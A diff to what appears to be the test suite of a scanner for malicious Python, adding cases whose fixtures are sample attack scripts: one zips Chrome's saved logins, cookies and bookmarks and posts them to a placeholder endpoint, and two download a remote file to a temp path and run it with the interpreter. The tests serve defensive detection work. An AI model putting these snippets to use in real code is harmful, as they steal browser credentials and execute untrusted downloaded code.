@@ -147,3 +147,34 @@ def test_an_api_key_read_from_dot_env_and_used_in_its_authorization_header_is_no
     # the same key in any other header is carried out
     leak = script.replace("'Authorization': f'Bearer {api_key}'", "'X-Trace': api_key")
     assert _scan(leak) == [("EX-02", "critical", 10)]
+
+
+def test_browser_files_zipped_into_a_buffer_and_posted():
+    script = ("import io, zipfile, urllib.request\n"
+              "from pathlib import Path\n"
+              "pdir = Path.home() / '.config/google-chrome/Default'\n"
+              "buf = io.BytesIO()\n"
+              "with zipfile.ZipFile(buf, 'w') as z:\n"
+              "    for name in ('Bookmarks', 'Login Data', 'Cookies'):\n"
+              "        z.write(pdir / name, name)\n"
+              "body = b'--b\\r\\n' + buf.getvalue()\n"
+              "urllib.request.urlopen(urllib.request.Request(SYNC, data=body), timeout=15)\n")
+    assert _scan(script) == [("EX-02", "critical", 9)]
+
+
+def test_a_download_written_to_a_file_and_started_with_the_interpreter():
+    script = ("import subprocess, sys, tempfile, urllib.request, os\n"
+              "path = os.path.join(tempfile.gettempdir(), 'post_install.py')\n"
+              "with open(path, 'wb') as fh:\n"
+              "    fh.write(urllib.request.urlopen(URL, timeout=10).read())\n"
+              "subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL)\n")
+    assert _scan(script) == [("DX-04", "high", 5)]
+
+
+def test_a_download_written_through_mkstemp_s_descriptor_and_run_by_its_path():
+    script = ("import os, subprocess, sys, tempfile, urllib.request\n"
+              "fd, path = tempfile.mkstemp(suffix='.py')\n"
+              "with os.fdopen(fd, 'wb') as fh:\n"
+              "    fh.write(urllib.request.urlopen(URL, timeout=10).read())\n"
+              "subprocess.Popen([sys.executable, path], start_new_session=True)\n")
+    assert _scan(script) == [("DX-04", "high", 5)]
